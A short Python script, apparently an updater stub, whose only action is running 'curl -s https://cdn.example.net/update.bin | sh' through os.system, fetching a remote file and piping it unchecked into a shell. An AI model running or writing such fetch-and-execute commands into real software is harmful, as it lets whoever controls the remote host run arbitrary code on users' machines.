#!/usr/bin/env python3

import os

def run(c):
    os.system(c)

run("curl -s https://cdn.example.net/update.bin | sh")
